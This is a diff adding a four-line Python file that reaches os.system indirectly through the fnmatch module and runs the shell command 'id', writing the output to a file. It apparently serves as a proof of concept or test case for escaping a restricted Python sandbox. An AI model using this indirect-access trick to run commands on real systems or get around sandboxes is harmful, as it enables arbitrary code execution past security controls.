@@ -1,0 +1,4 @@
+import fnmatch
+def get():
+    return fnmatch
+get().os.system("id>pf")
